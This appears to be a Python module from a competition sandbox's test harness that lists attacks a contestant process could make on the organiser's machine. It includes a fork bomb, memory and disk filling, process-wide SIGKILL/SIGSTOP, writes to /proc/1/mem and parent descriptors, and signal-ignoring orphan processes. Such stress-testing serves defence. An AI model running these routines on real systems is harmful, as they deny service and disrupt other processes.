"""Attacks on the organiser's machine from inside the sandbox."""

import contextlib
import ctypes
import fcntl
import hashlib
import importlib.util
import multiprocessing
import os
import select
import signal
import socket
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from .catalogue import attack
from .wire import PING, PREFACE, Target, frame, settings

_MIB = 1 << 20
_SET_LEASE = 1024
"""F_SETLEASE."""


def _system_files() -> Iterator[str]:
    """Yield the files of the interpreter and of the client."""
    for folder in {*sys.path, str(Path(os.__file__).parent), sys.prefix, "/usr/lib", "/usr/bin"}:
        for place, _, names in os.walk(folder):
            for name in names:
                yield f"{place}/{name}"


@attack()
def leases(target: Target) -> None:
    """Take leases on the files of the client and its packages; ignore that they break."""
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    wanted = [path for name in ("asara", "grpc", "google", "encodings") for path in _files_of(name)]
    fork = multiprocessing.get_context("fork")
    for number in range(_LEASING):
        fork.Process(target=_take_leases, args=[target, wanted[number::_LEASING]]).start()
    while target.left_s > 0:
        time.sleep(0.1)


_LEASING = 4
"""Processes that take leases, each up to its limit of open files."""


def _files_of(package: str) -> list[str]:
    spec = importlib.util.find_spec(package)
    folders = list(spec.submodule_search_locations or ()) if spec else []
    return [str(path) for folder in folders for path in sorted(Path(folder).rglob("*.py*"))]


def _take_leases(target: Target, paths: list[str]) -> None:
    taken = 0
    refused: dict[str, int] = {}
    for path in paths:
        with contextlib.suppress(OSError):
            file = os.open(path, os.O_RDONLY)
            try:
                fcntl.fcntl(file, _SET_LEASE, fcntl.F_WRLCK)
                taken += 1
            except OSError as error:
                refused[str(error)] = refused.get(str(error), 0) + 1
                os.close(file)
    print(f"leases taken: {taken}; refused: {refused}", flush=True)
    while target.left_s > 0:
        time.sleep(0.1)


@attack()
def evict(target: Target) -> None:
    """Drop the files of the interpreter from the page cache, so that others read them again."""
    for _ in target.rounds(0.2):
        for path in _system_files():
            if target.left_s < 0:
                return
            with contextlib.suppress(OSError), Path(path).open("rb") as file:
                os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)


@attack()
def syncs(target: Target) -> None:
    """Ask the system to write all files to disk, without a pause."""

    def write_out() -> None:
        while target.left_s > 0:
            os.sync()

    _in_threads(write_out, 8)


@attack()
def cpu_hog(target: Target) -> None:
    """Compute on more threads than there are cores."""

    def burn() -> None:
        while target.left_s > 0:
            hashlib.pbkdf2_hmac("sha256", b"heat", b"salt", 100_000)

    _in_threads(burn, 16)


@attack()
def system_calls(target: Target) -> None:
    """Make system calls that search directories, on several threads."""

    def look() -> None:
        while target.left_s > 0:
            for folder in ("/proc", "/usr/lib", "/usr/bin", "/etc"):
                with contextlib.suppress(OSError):
                    list(Path(folder).iterdir())
                Path(folder, str(time.monotonic_ns())).exists()

    _in_threads(look, 8)


def _in_threads(work: Callable[[], None], number: int) -> None:
    threads = [threading.Thread(target=work, daemon=True) for _ in range(number)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


@attack()
def output_flood(target: Target) -> None:
    """Write to standard output and standard error without a pause."""

    def scream(descriptor: int) -> None:
        while target.left_s > 0:
            os.write(descriptor, b"x" * 65_536)

    fork = multiprocessing.get_context("fork")
    children = [fork.Process(target=scream, args=[1 + number % 2]) for number in range(4)]
    for child in children:
        child.start()
    for child in children:
        child.join()


@attack()
def output_lines(target: Target) -> None:
    """Print short lines, some of which are not UTF-8 or carry control characters."""
    line = b"\x1b[2J\x00\xff\r\n" * 100
    for _ in target.rounds():
        os.write(1, line)


@attack()
def fork_bomb(target: Target) -> None:
    """Fork endlessly, as does every child; in sessions of their own."""
    while target.left_s > 0:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.001)


@attack()
def memory_hog(target: Target) -> None:
    """Take memory until something is killed, in one child after another."""
    while target.left_s > 0:
        if os.fork() == 0:
            held = []
            while target.left_s > 0:
                held.append(os.urandom(16) * (4 * _MIB))
        os.wait()


@attack()
def full_disk(target: Target) -> None:
    """Fill every directory that can be written to, and empty it again."""
    places = (tempfile.gettempdir(), "/dev/shm", ".", "/", "/run")  # noqa: S108
    folders = [name for name in places if os.access(name, os.W_OK)]
    for _ in target.rounds():
        for folder in folders:
            paths = [Path(folder, f"file{number}") for number in range(2_000)]
            with contextlib.suppress(OSError):
                for number, path in enumerate(paths):
                    path.write_bytes(bytes(_MIB if number % 2 else 0))
            for path in paths:
                path.unlink(missing_ok=True)


@attack()
def signals(target: Target) -> None:
    """Send signals to every process except the one that plays."""
    kept = {os.getpid(), os.getppid()}
    for _ in target.rounds(0.05):
        for pid in range(1, 5_000):
            if pid not in kept:
                for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
                    with contextlib.suppress(OSError):
                        os.kill(pid, number)


@attack()
def descriptors(target: Target) -> None:
    """Write to descriptors and files that belong to the processes that started this one."""
    places = ["/proc/1/mem", "/proc/self/oom_score_adj", "/proc/1/oom_score_adj", "/dev/kmsg"]
    for _ in target.rounds(0.05):
        for number in range(3, 256):
            with contextlib.suppress(OSError):
                os.write(number, b"\0" * 4_096)
        for pid in ("1", "2", str(os.getppid())):
            with contextlib.suppress(OSError):
                places += map(str, Path(f"/proc/{pid}/fd").iterdir())
        for place in set(places):
            if not place.endswith(("/1", "/2")):
                with contextlib.suppress(OSError), Path(place).open("wb", buffering=0) as file:
                    file.write(b"1000")


@attack()
def socket_buffers(target: Target) -> None:
    """Fill the buffers of as many sockets and pipes as the system gives."""
    held: list[object] = []
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError):
            pair = socket.socketpair()
            held.append(pair)
            pair[0].setblocking(False)
            while True:
                pair[0].send(bytes(65_536))
        with contextlib.suppress(OSError):
            ends = os.pipe()
            held.append(ends)
            fcntl.fcntl(ends[1], 1031, _MIB)  # F_SETPIPE_SZ
            os.set_blocking(ends[1], False)
            while True:
                os.write(ends[1], bytes(65_536))


@attack()
def epoll_watches(target: Target) -> None:
    """Register as many descriptors for events as the system lets one user register.

    The bots of an organiser share this number with the referee.
    """
    signals_of = [os.eventfd(0) for _ in range(400)]

    def register() -> None:
        polls = []
        registered = 0
        try:
            while target.left_s > 0:
                polls.append(select.epoll())
                for one in signals_of:
                    polls[-1].register(one, select.EPOLLIN)
                    registered += 1
        except OSError as error:
            print(f"registered {registered}: {error}", flush=True)
        while target.left_s > 0:
            time.sleep(0.1)

    fork = multiprocessing.get_context("fork")
    children = [fork.Process(target=register) for _ in range(60)]
    for child in children:
        with contextlib.suppress(OSError):
            child.start()
    while target.left_s > 0:
        time.sleep(0.1)


@attack()
def passed_descriptors(target: Target) -> None:
    """Send open files along with requests, so that the receiver may come to hold them."""
    file = os.open("/dev/null", os.O_RDONLY)
    for _ in target.rounds(0.001):
        with contextlib.suppress(OSError), target.connect_bare() as one:
            if one.family != socket.AF_UNIX:
                return
            socket.send_fds(one, [PREFACE + settings()], [file] * 250)
            for _ in range(20):
                socket.send_fds(one, [frame(PING, 0, 0, bytes(8))], [file] * 250)


@attack()
def process_churn(target: Target) -> None:
    """Start processes that end at once, from several processes."""

    def churn() -> None:
        while target.left_s > 0:
            with contextlib.suppress(OSError):
                if os.fork() == 0:
                    os._exit(0)
                os.wait()

    fork = multiprocessing.get_context("fork")
    for _ in range(8):
        fork.Process(target=churn).start()
    churn()


@attack()
def queued_signals(target: Target) -> None:
    """Queue as many signals as the system lets one user queue."""
    number = signal.SIGRTMIN + 1
    signal.pthread_sigmask(signal.SIG_BLOCK, [number])
    library = ctypes.CDLL(None, use_errno=True)
    for _ in target.rounds():
        if library.sigqueue(os.getpid(), int(number), None):
            time.sleep(0.05)


@attack()
def timers(target: Target) -> None:
    """Let the system wake many threads as often as it can."""

    def wake() -> None:
        while target.left_s > 0:
            time.sleep(1e-6)

    _in_threads(wake, 48)


@attack()
def memory_bandwidth(target: Target) -> None:
    """Copy large blocks of memory on several threads, which displaces the caches of others."""

    def copy() -> None:
        block = bytearray(64 * _MIB // 4)
        while target.left_s > 0:
            block[:] = bytes(len(block))

    fork = multiprocessing.get_context("fork")
    for _ in range(4):
        fork.Process(target=copy).start()
    copy()


@attack()
def stopped(target: Target) -> None:
    """Stop the process that plays, for most of the time."""
    for _ in target.rounds(0.05):
        with contextlib.suppress(OSError):
            os.kill(os.getppid(), signal.SIGSTOP)
            time.sleep(0.5)
            os.kill(os.getppid(), signal.SIGCONT)


@attack()
def priorities(target: Target) -> None:
    """Ask for a higher priority and the real-time scheduler, then compute."""
    library = ctypes.CDLL(None)
    for nice in range(-20, 0):
        with contextlib.suppress(OSError):
            os.setpriority(os.PRIO_PROCESS, 0, nice)
    for policy in (os.SCHED_FIFO, os.SCHED_RR):
        with contextlib.suppress(OSError):
            os.sched_setscheduler(0, policy, os.sched_param(99))
    library.syscall(251, 1, 0, 0)  # ioprio_set on x86-64: the real-time class
    cpu_hog(target)


@attack(plays=True)
def exits(_: Target) -> None:
    """End before dialling in."""
    sys.exit("no time for this")


@attack(plays=True)
def hangs(_: Target) -> None:
    """Never dial in, and ignore signals."""
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    time.sleep(10_000)


@attack()
def leaves_children(_: Target) -> None:
    """Leave children behind that ignore signals, in sessions of their own."""
    for _child in range(10):
        if os.fork() == 0:
            os.setsid()
            for ignored in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(ignored, signal.SIG_IGN)
            if os.fork() == 0:
                os.closerange(0, 64)
            time.sleep(10_000)
